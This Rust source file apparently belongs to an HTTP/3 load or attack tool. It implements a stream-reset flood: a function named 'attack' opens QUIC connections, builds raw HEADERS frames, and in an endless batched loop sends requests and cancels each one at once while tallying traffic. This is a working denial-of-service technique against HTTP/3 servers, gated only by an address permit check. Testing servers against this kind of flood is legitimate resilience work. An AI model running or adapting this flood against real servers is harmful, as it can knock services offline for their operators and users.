//! HTTP/3 reset flood: each stream is reset right after its request.

use std::sync::Arc;
use std::time::Duration;

use quinn::VarInt;

use super::door::Door;
use super::ground::Ground;
use super::unspoken::Unspoken;
use crate::{QuicConfig, QuicOptions};

/// `H3_REQUEST_CANCELLED` (RFC 9114, section 8.1).
const CANCELLED: VarInt = VarInt::from_u32(0x010c);

/// Timeout for opening a connection.
const PATIENCE: Duration = Duration::from_secs(5);

/// The control stream, and SETTINGS without a setting on it (RFC 9114, sections 6.2.1 and 7.2.4).
const CONTROL: [u8; 3] = [0x00, 0x04, 0x00];

/// Streams that are opened in one go.
const BATCH: u32 = 50;

/// Whether the server can be spoken to by HTTP/3; why not, if it cannot.
pub(super) async fn try_once(door: &Door) -> Result<(), Unspoken> {
    let connection = open(door).await?;
    connection.close(CANCELLED, b"");
    Ok(())
}

async fn open(door: &Door) -> Result<quinn::Connection, Unspoken> {
    door.permit(door.address().ip())?;
    let tls = door.tls(b"h3");
    let tls: Arc<_> = tls.ok_or(Unspoken::NoTls)?;
    let config: QuicConfig = QuicOptions::default().compile(&tls, true)?;
    let name = door.name();
    let opening = crate::http3::open(&config, door.address(), &name, None, false);
    match tokio::time::timeout(PATIENCE, opening).await {
        Ok(Ok((connection, _))) => Ok(connection),
        Ok(Err(error)) => Err(error.into()),
        Err(_) => Err(Unspoken::Silent),
    }
}

pub(super) async fn attack(ground: &Ground<'_>) {
    if ground.leave(1).await.is_none() {
        return;
    }
    let Ok(connection) = open(&ground.door).await else {
        ground.tally.refused();
        ground.rest(Duration::from_millis(20)).await;
        return;
    };
    ground.tally.connected();
    let flood = async {
        let mut control = connection.open_uni().await.ok()?;
        control.write_all(&CONTROL).await.ok()?;
        let request = request(&ground.door);
        loop {
            for _ in 0..ground.leave(BATCH).await? {
                let (mut send, mut receive) = connection.open_bi().await.ok()?;
                send.write_all(&request).await.ok()?;
                // So that the request is on its way before it is taken back.
                tokio::task::yield_now().await;
                send.reset(CANCELLED).ok();
                receive.stop(CANCELLED).ok();
                ground.tally.sent(1);
                ground.tally.bytes_sent(request.len());
            }
        }
    };
    let flood: std::pin::Pin<Box<dyn Future<Output = Option<()>> + '_>> = Box::pin(flood);
    tokio::select! {
        _ = flood => {}
        () = ground.end() => {}
    }
    match connection.close_reason() {
        None => connection.close(CANCELLED, b""),
        Some(reason) => {
            ground.tally.ended();
            ground.tally.goaway(reason.to_string());
        }
    }
}

/// A HEADERS frame whose fields are all literals or of the static table (RFC 9204, appendix A).
fn request(door: &Door) -> Vec<u8> {
    let endpoint = door.endpoint();
    // No dynamic table; :method GET is 17 and :scheme https is 23 of the static one.
    let mut block = vec![0, 0, 0xc0 | 0x11, 0xc0 | 0x17];
    // Literals whose names are 0, :authority, and 1, :path.
    for (name, value) in [(0, endpoint.authority()), (1, endpoint.path_and_query())] {
        block.push(0x50 | name);
        super::frames::put_string(&mut block, value.as_bytes());
    }
    let mut frame = vec![0x01];
    let length = u16::try_from(block.len()).unwrap_or(0x3fff).min(0x3fff);
    // A length of two octets (RFC 9000, section 16).
    frame.extend_from_slice(&(0x4000 | length).to_be_bytes());
    frame.extend_from_slice(&block);
    frame
}
